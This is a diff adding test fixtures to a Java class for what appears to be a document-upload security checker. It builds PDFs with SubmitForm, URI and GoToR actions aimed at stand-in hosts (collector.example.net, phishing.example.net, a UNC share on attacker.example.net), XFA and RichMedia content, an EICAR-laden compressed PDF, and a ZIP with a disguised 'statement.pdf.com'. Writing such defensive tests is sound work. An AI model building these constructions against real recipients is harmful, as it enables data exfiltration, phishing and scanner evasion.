@@ -132,6 +132,67 @@ public final class Fixtures {
         }, "attachment");
     }
 
+    /**
+     * A link annotation whose action is of the given type (SubmitForm, ImportData, URI, GoToR, GoToE,
+     * RichMediaExecute), written at the COS level with the entries that action type takes.
+     */
+    public static byte[] pdfWithAction(String type) {
+        return pdf(doc -> {
+            COSDictionary action = new COSDictionary();
+            action.setItem(COSName.TYPE, COSName.getPDFName("Action"));
+            action.setItem(COSName.S, COSName.getPDFName(type));
+            switch (type) {
+                case "SubmitForm" -> action.setString(COSName.F, "https://collector.example.net/submit");
+                case "ImportData" -> action.setString(COSName.F, "data.fdf");
+                case "URI" -> action.setString(COSName.getPDFName("URI"), "https://phishing.example.net/");
+                case "GoToR" -> {
+                    action.setString(COSName.F, "\\\\attacker.example.net\\share\\other.pdf");
+                    action.setItem(COSName.D, new COSArray());
+                }
+                case "GoToE" -> action.setItem(COSName.T, new COSDictionary());
+                default -> action.setItem(COSName.getPDFName("TA"), new COSDictionary());
+            }
+            PDAnnotationLink link = new PDAnnotationLink();
+            link.setRectangle(new PDRectangle(10, 10, 100, 20));
+            link.getCOSObject().setItem(COSName.A, action);
+            try {
+                doc.getPage(0).getAnnotations().add(link);
+            } catch (IOException e) {
+                throw new UncheckedIOException(e);
+            }
+        }, "action " + type);
+    }
+
+    /** An interactive form that carries an XFA form (the AcroForm's /XFA entry). */
+    public static byte[] pdfWithXfaForm() {
+        return pdf(doc -> {
+            var form = new org.apache.pdfbox.pdmodel.interactive.form.PDAcroForm(doc);
+            var xfa = new org.apache.pdfbox.cos.COSStream();
+            try (var out = xfa.createOutputStream()) {
+                out.write("<xdp:xdp xmlns:xdp=\"http://ns.adobe.com/xdp/\"><template/></xdp:xdp>".getBytes(StandardCharsets.UTF_8));
+            } catch (IOException e) {
+                throw new UncheckedIOException(e);
+            }
+            form.getCOSObject().setItem(COSName.getPDFName("XFA"), xfa);
+            doc.getDocumentCatalog().setAcroForm(form);
+        }, "xfa");
+    }
+
+    /** A RichMedia annotation (the Flash/video player of PDF 1.7 extension level 3). */
+    public static byte[] pdfWithRichMedia() {
+        return pdf(doc -> {
+            COSDictionary annotation = new COSDictionary();
+            annotation.setItem(COSName.TYPE, COSName.ANNOT);
+            annotation.setItem(COSName.SUBTYPE, COSName.getPDFName("RichMedia"));
+            annotation.setItem(COSName.RECT, new PDRectangle(10, 10, 100, 100).getCOSArray());
+            try {
+                doc.getPage(0).getAnnotations().add(org.apache.pdfbox.pdmodel.interactive.annotation.PDAnnotation.createAnnotation(annotation));
+            } catch (IOException e) {
+                throw new UncheckedIOException(e);
+            }
+        }, "rich media");
+    }
+
     public static byte[] encryptedPdf(String userPassword) {
         return pdf(doc -> {
             try {
@@ -236,6 +297,52 @@ public final class Fixtures {
         crc.update(typeBytes);
         crc.update(data);
         out.writeBytes(ByteBuffer.allocate(4).putInt((int) crc.getValue()).array());
+    }
+
+    /**
+     * A well-formed one-page PDF whose (Flate-compressed) page content carries the EICAR test string
+     * in a comment: it passes every structural check; only a malware scanner that unpacks PDF streams
+     * finds it.
+     */
+    public static byte[] pdfWithEicar() {
+        try (PDDocument doc = new PDDocument()) {
+            PDPage page = new PDPage(PDRectangle.A4);
+            doc.addPage(page);
+            try (PDPageContentStream content = new PDPageContentStream(doc, page)) {
+                content.addComment(new String(io.kycvault.local.LocalMalwareScanner.eicar(), StandardCharsets.US_ASCII));
+                content.beginText();
+                content.setFont(new PDType1Font(Standard14Fonts.FontName.HELVETICA), 12);
+                content.newLineAtOffset(72, 720);
+                content.showText("bank statement");
+                content.endText();
+            }
+            return save(doc);
+        } catch (IOException e) {
+            throw new UncheckedIOException(e);
+        }
+    }
+
+    /** A ZIP archive holding eicar.com, as an attacker would upload it declared as a PDF. */
+    public static byte[] zipWithEicar() {
+        ByteArrayOutputStream out = new ByteArrayOutputStream();
+        try (java.util.zip.ZipOutputStream zip = new java.util.zip.ZipOutputStream(out)) {
+            zip.putNextEntry(new java.util.zip.ZipEntry("statement.pdf.com"));
+            zip.write(io.kycvault.local.LocalMalwareScanner.eicar());
+            zip.closeEntry();
+        } catch (IOException e) {
+            throw new UncheckedIOException(e);
+        }
+        return out.toByteArray();
+    }
+
+    /** ClamAV's test executable (Debian package clamav-testfiles, installed by bin/test). */
+    public static byte[] clamTestExecutable() {
+        java.nio.file.Path file = java.nio.file.Path.of("/usr/share/clamav-testfiles/clam.exe");
+        try {
+            return java.nio.file.Files.readAllBytes(file);
+        } catch (IOException e) {
+            throw new IllegalStateException(file + " is missing: install clamav-testfiles (bin/test does)", e);
+        }
     }
 
     public static byte[] htmlPage() {
